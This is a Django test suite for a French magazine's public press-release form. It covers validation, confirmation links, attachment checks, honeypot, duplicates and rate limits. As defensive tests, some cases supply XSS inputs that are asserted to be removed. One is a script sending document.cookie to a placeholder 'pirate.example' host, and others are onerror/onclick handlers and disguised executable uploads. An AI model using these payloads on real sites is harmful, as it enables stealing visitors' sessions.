"""The public press-release form: what a sender sees, what is saved, and every refusal."""

import re
import time
from datetime import timedelta
from unittest import mock

import pytest
from django.urls import reverse
from django.utils import timezone

from annuaire.models import Organisation
from core.models import OutgoingEmail
from magazine.models import ArticleKind, ArticlePage, PressReleaseAttachment, PressReleaseSubmission
from tests.home.html import h1s, parse, texts

from . import press_support
from .press_support import (
    CONTACT_EMAIL,
    emails_to,
    exe_bytes,
    form_data,
    link_in,
    pdf_bytes,
    png_bytes,
    upload,
)

pytestmark = pytest.mark.django_db

# Fixtures shared with the other press-release tests.
press_magazine = press_support.press_magazine
media_root = press_support.media_root

SUBMIT_URL = "/magazine/communiques/proposer/"


def squeeze(text: str) -> str:
    """Spaces and line breaks collapsed; no-break spaces (French typography) kept."""
    return re.sub(r"[ \t\r\n]+", " ", text).strip()


def errors_of(response) -> dict[str, str]:
    """Field id → its error text, and "__all__" → the summary's non-field errors."""
    tree = parse(response)
    errors = {}
    for node in tree.xpath("//*[contains(@class, 'field--error')]"):
        field_ids = node.xpath(".//*[@aria-invalid='true']/@id")
        message = " ".join(squeeze(item.text_content()) for item in node.xpath(".//*[contains(@id, '_errors')]"))
        for field_id in field_ids:
            errors[field_id] = message
    summary = texts(tree, "//div[@id='erreurs']/p[position() > 1]")
    if summary:
        errors["__all__"] = " ".join(summary)
    return errors


def assert_nothing_saved():
    assert PressReleaseSubmission.objects.count() == 0
    assert PressReleaseAttachment.objects.count() == 0
    assert OutgoingEmail.objects.count() == 0


def test_the_url_is_the_one_the_issue_names():
    assert reverse("magazine:press_release_submit") == SUBMIT_URL


def test_the_form_shows_its_labelled_fields_and_hides_the_honeypot(
    client, press_magazine, django_assert_max_num_queries
):
    client.get(SUBMIT_URL)  # the first request of a site creates its settings row
    with django_assert_max_num_queries(6):
        response = client.get(SUBMIT_URL)
    assert response.status_code == 200
    assert h1s(response) == ["Proposer un communiqué de presse"]
    tree = parse(response)
    form = tree.xpath("//form[@enctype='multipart/form-data']")[0]
    assert form.xpath(".//input[@name='csrfmiddlewaretoken']")
    for name in ("contact_name", "contact_email", "organisation_name", "title", "text", "attachments"):
        field = form.xpath(f".//*[@name='{name}']")[0]
        assert form.xpath(f".//label[@for='{field.get('id')}']"), name
    assert form.xpath(".//input[@name='attachments']/@multiple")
    trap = form.xpath(".//div[@class='honeypot']")[0]
    assert trap.get("aria-hidden") == "true"
    assert trap.xpath(".//input[@name='contact_nickname']/@tabindex") == ["-1"]
    assert response["Cache-Control"].startswith("max-age=0")


def test_a_valid_release_is_saved_pending_and_an_email_asks_to_confirm_it(
    client, press_magazine, django_assert_max_num_queries
):
    data = form_data(attachments=[upload("dossier.pdf", pdf_bytes()), upload("photo.png", png_bytes())])
    client.get(SUBMIT_URL)  # the first request of a site creates its settings row
    with django_assert_max_num_queries(10):
        response = client.post(SUBMIT_URL, data)
    assert response.status_code == 302
    assert response["Location"] == reverse("magazine:press_release_sent")

    submission = PressReleaseSubmission.objects.get()
    assert submission.status == PressReleaseSubmission.Status.AWAITING_CONFIRMATION
    assert submission.email == CONTACT_EMAIL
    assert submission.title == "Un atelier de réparation textile ouvre à Roubaix"
    assert [(a.kind, a.name) for a in submission.attachments.all()] == [("pdf", "dossier.pdf"), ("image", "photo.png")]
    assert not ArticlePage.objects.exists()  # nothing reaches the editors before the confirmation

    [email] = emails_to(CONTACT_EMAIL)
    assert "Confirmez l’envoi de votre communiqué" in email.subject
    assert "/magazine/communiques/confirmer/" in email.text_body
    assert "48 heures" in email.text_body

    with django_assert_max_num_queries(6):
        sent = client.get(response["Location"])
    assert h1s(sent) == ["Vérifiez votre boîte de réception"]


def test_the_confirmation_link_shows_a_button_and_only_the_post_creates_the_draft(
    client, press_magazine, django_assert_max_num_queries
):
    client.get(SUBMIT_URL)  # the first request of a site creates its settings row
    client.post(SUBMIT_URL, form_data(attachments=[upload("dossier.pdf", pdf_bytes())]))
    link = link_in(emails_to(CONTACT_EMAIL)[0], "/magazine/communiques/confirmer/")
    with django_assert_max_num_queries(8):
        page = client.get(link)
    assert page.status_code == 200
    assert h1s(page) == ["Confirmer l’envoi du communiqué"]
    assert parse(page).xpath("//form[@method='post']//button[normalize-space()='Confirmer l’envoi']")
    assert not ArticlePage.objects.exists()

    confirmed = client.post(link)
    assert confirmed.status_code == 200
    assert h1s(confirmed) == ["Communiqué transmis à la rédaction"]
    article = ArticlePage.objects.get()
    assert article.kind == ArticleKind.PRESS_RELEASE
    assert not article.live
    assert article.get_parent().specific == press_magazine["ess"]
    assert article.source_name == "Les Tisserands"
    assert article.source_organisation is None
    assert article.current_workflow_state is not None
    assert article.current_workflow_state.workflow.name == "Comité de rédaction"

    # The link again (a second click, or a mail client's prefetch): no second draft. The new draft page
    # changed the page tree: the first request after it builds the site frame again (core.frame).
    client.get(link)
    with django_assert_max_num_queries(8):
        again = client.post(link)
    assert again.status_code == 200
    assert "déjà confirmé" in again.content.decode()
    assert ArticlePage.objects.count() == 1


@pytest.mark.parametrize(
    "token, message",
    [("pas-un-jeton", "incomplet ou n’existe pas"), ("eyJzdWJtaXNzaW9uIjoxfQ:forged:signature", "incomplet")],
)
def test_a_forged_confirmation_link_is_refused(client, press_magazine, token, message):
    response = client.get(reverse("magazine:press_release_confirm", args=[token]))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert client.post(reverse("magazine:press_release_confirm", args=[token])).status_code == 400
    assert not ArticlePage.objects.exists()


def test_an_expired_confirmation_link_is_refused(client, press_magazine):
    client.post(SUBMIT_URL, form_data())
    submission = PressReleaseSubmission.objects.get()
    with mock.patch("django.core.signing.time.time", return_value=time.time() - 49 * 3600):
        token = submission.confirmation_token()
    link = reverse("magazine:press_release_confirm", args=[token])
    response = client.post(link)
    assert response.status_code == 400
    assert "a expiré" in response.content.decode()
    assert not ArticlePage.objects.exists()


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("contact_name", "", "Indiquez votre nom."),
        ("contact_email", "", "Indiquez votre adresse électronique."),
        ("contact_email", "camille@", "Saisissez une adresse électronique valide"),
        ("contact_email", "camille.example.fr", "Saisissez une adresse électronique valide"),
        ("organisation_name", "", "Indiquez la structure ou l’agence qui émet le communiqué."),
        ("title", "", "Indiquez le titre du communiqué."),
        ("title", "<b></b>", "Indiquez le titre du communiqué."),
        ("title", "T" * 201, "Le titre doit compter au plus 200 caractères"),
        ("text", "", "Collez ou saisissez le texte du communiqué."),
        ("text", "Trop court.", "Le texte est trop court"),
        ("text", "<script>" + "alert('pirate');" * 20 + "</script>Court.", "Le texte est trop court"),
    ],
)
def test_missing_or_invalid_fields_are_refused_with_a_french_message(client, press_magazine, field, value, message):
    response = client.post(SUBMIT_URL, form_data(**{field: value}))
    assert response.status_code == 400
    errors = errors_of(response)
    assert message in errors[f"id_{field}"]
    assert "Le formulaire contient une erreur." in response.content.decode()
    assert_nothing_saved()


def test_an_exe_renamed_pdf_is_refused(client, press_magazine):
    data = form_data(attachments=[upload("communique.pdf", exe_bytes(), "application/pdf")])
    response = client.post(SUBMIT_URL, data)
    assert response.status_code == 400
    assert "« communique.pdf » n’est ni un PDF ni une image" in errors_of(response)["id_attachments"]
    assert_nothing_saved()


def test_a_script_renamed_png_is_refused(client, press_magazine):
    data = form_data(attachments=[upload("photo.png", b"<script>alert(1)</script>", "image/png")])
    response = client.post(SUBMIT_URL, data)
    assert response.status_code == 400
    assert "« photo.png » n’est ni un PDF ni une image" in errors_of(response)["id_attachments"]
    assert_nothing_saved()


def test_an_oversized_attachment_is_refused(client, press_magazine, settings):
    settings.PRESS_RELEASE_MAX_ATTACHMENT_BYTES = 1024
    data = form_data(attachments=[upload("gros.pdf", pdf_bytes() + b"0" * 2000, "application/pdf")])
    response = client.post(SUBMIT_URL, data)
    assert response.status_code == 400
    assert "« gros.pdf » est trop lourd" in errors_of(response)["id_attachments"]
    assert_nothing_saved()


def test_more_than_three_attachments_are_refused(client, press_magazine):
    data = form_data(attachments=[upload(f"piece-{n}.pdf", pdf_bytes()) for n in range(4)])
    response = client.post(SUBMIT_URL, data)
    assert response.status_code == 400
    assert "Joignez 3 fichiers au plus (vous en avez choisi 4)." in errors_of(response)["id_attachments"]
    assert_nothing_saved()


def test_the_honeypot_refuses_robots(client, press_magazine):
    response = client.post(SUBMIT_URL, form_data(contact_nickname="https://spam.example"))
    assert response.status_code == 400
    assert "ressemble à celui d’un robot" in errors_of(response)["__all__"]
    assert_nothing_saved()


def test_script_in_the_text_is_removed_and_never_reaches_the_page(client, press_magazine, editor):
    text = (
        "<script>document.location='https://pirate.example/?c='+document.cookie</script>"
        '<p onclick="alert(1)">Une <b>coopérative</b> d’habitants inaugure son premier immeuble à Lyon.</p>'
        "<p>Les trente logements ont été conçus avec les futurs habitants, qui en restent collectivement "
        "propriétaires.</p><img src=x onerror=alert(2)>"
    )
    client.post(SUBMIT_URL, form_data(text=text, title="<i>Une coopérative</i> d’habitants à Lyon"))
    submission = PressReleaseSubmission.objects.get()
    assert "<" not in submission.text and "alert" not in submission.text and "pirate" not in submission.text
    assert submission.text.startswith("Une coopérative d’habitants inaugure son premier immeuble à Lyon.")
    assert submission.title == "Une coopérative d’habitants à Lyon"

    client.post(link_in(emails_to(CONTACT_EMAIL)[0], "/magazine/communiques/confirmer/"))
    article = ArticlePage.objects.get()
    client.force_login(editor)
    preview = client.get(reverse("wagtailadmin_pages:view_draft", args=[article.pk]))
    html = preview.content.decode()
    assert "pirate.example" not in html and "onerror" not in html and "onclick" not in html
    assert "Les trente logements" in html


def test_the_same_release_sent_twice_is_refused(client, press_magazine):
    assert client.post(SUBMIT_URL, form_data()).status_code == 302
    # Same text with other spacing and case: still the same release.
    again = form_data(title="UN ATELIER de réparation textile ouvre à Roubaix  ")
    response = client.post(SUBMIT_URL, again)
    assert response.status_code == 400
    assert "Vous nous avez déjà envoyé ce communiqué récemment" in errors_of(response)["__all__"]
    assert PressReleaseSubmission.objects.count() == 1
    assert len(emails_to(CONTACT_EMAIL)) == 1


def test_a_release_never_confirmed_may_be_sent_again_once_its_link_expired(client, press_magazine):
    assert client.post(SUBMIT_URL, form_data()).status_code == 302
    PressReleaseSubmission.objects.update(created_at=timezone.now() - timedelta(hours=49))
    assert client.post(SUBMIT_URL, form_data()).status_code == 302
    assert PressReleaseSubmission.objects.count() == 2


def test_more_than_three_releases_an_hour_from_one_address_are_refused(client, press_magazine):
    for n in range(3):
        response = client.post(SUBMIT_URL, form_data(title=f"Communiqué numéro {n}"), REMOTE_ADDR=f"10.0.0.{n}")
        assert response.status_code == 302
    response = client.post(SUBMIT_URL, form_data(title="Communiqué numéro 4"), REMOTE_ADDR="10.0.0.9")
    assert response.status_code == 429
    assert "réessayez dans une heure" in errors_of(response)["__all__"]
    assert PressReleaseSubmission.objects.count() == 3


def test_more_than_three_releases_an_hour_from_one_ip_are_refused(client, press_magazine):
    for n in range(3):
        data = form_data(title=f"Communiqué numéro {n}", contact_email=f"agence{n}@presse.test")
        assert client.post(SUBMIT_URL, data, REMOTE_ADDR="10.1.2.3").status_code == 302
    data = form_data(title="Communiqué numéro 4", contact_email="autre@presse.test")
    assert client.post(SUBMIT_URL, data, REMOTE_ADDR="10.1.2.3").status_code == 429
    assert not emails_to("autre@presse.test")


def test_refused_attempts_do_not_use_up_the_quota(client, press_magazine, settings):
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "magazine.press_release.email": "2/h"}
    for _attempt in range(4):  # mistakes, a robot's trap, a duplicate: nothing is counted
        assert client.post(SUBMIT_URL, form_data(text="Trop court.")).status_code == 400
        assert client.post(SUBMIT_URL, form_data(contact_nickname="https://spam.example")).status_code == 400
    assert client.post(SUBMIT_URL, form_data()).status_code == 302
    assert client.post(SUBMIT_URL, form_data()).status_code == 400  # the same release again
    assert client.post(SUBMIT_URL, form_data(title="Un second communiqué")).status_code == 302
    response = client.post(SUBMIT_URL, form_data(title="Un troisième communiqué"))
    assert response.status_code == 429
    assert "réessayez dans une heure" in errors_of(response)["__all__"]
    assert PressReleaseSubmission.objects.count() == 2


def test_the_limits_per_address_and_per_ip_are_read_from_the_rate_limits_table(client, press_magazine, settings):
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "magazine.press_release.ip": "1/h"}
    data = form_data(contact_email="agence@presse.test")
    assert client.post(SUBMIT_URL, data, REMOTE_ADDR="10.2.0.1").status_code == 302
    other = form_data(title="Un autre communiqué", contact_email="autre@presse.test")
    assert client.post(SUBMIT_URL, other, REMOTE_ADDR="10.2.0.1").status_code == 429
    assert client.post(SUBMIT_URL, other, REMOTE_ADDR="10.2.0.2").status_code == 302


def test_a_known_organisation_becomes_the_source_of_the_draft(client, press_magazine):
    organisation = Organisation.objects.create(name="Les Tisserands", slug="les-tisserands", is_verified=True)
    client.post(SUBMIT_URL, form_data(organisation_name="les tisserands"))
    submission = PressReleaseSubmission.objects.get()
    assert submission.organisation == organisation
    client.post(link_in(emails_to(CONTACT_EMAIL)[0], "/magazine/communiques/confirmer/"))
    article = ArticlePage.objects.get()
    assert article.source_organisation == organisation
    assert article.source_name == ""


def test_confirming_while_no_rubrique_receives_releases_explains_and_keeps_the_release(client, home_page):
    client.post(SUBMIT_URL, form_data(attachments=[]))
    link = link_in(emails_to(CONTACT_EMAIL)[0], "/magazine/communiques/confirmer/")
    response = client.post(link)
    assert response.status_code == 503
    assert "réessayez avec le même lien" in response.content.decode()
    assert PressReleaseSubmission.objects.get().status == PressReleaseSubmission.Status.AWAITING_CONFIRMATION
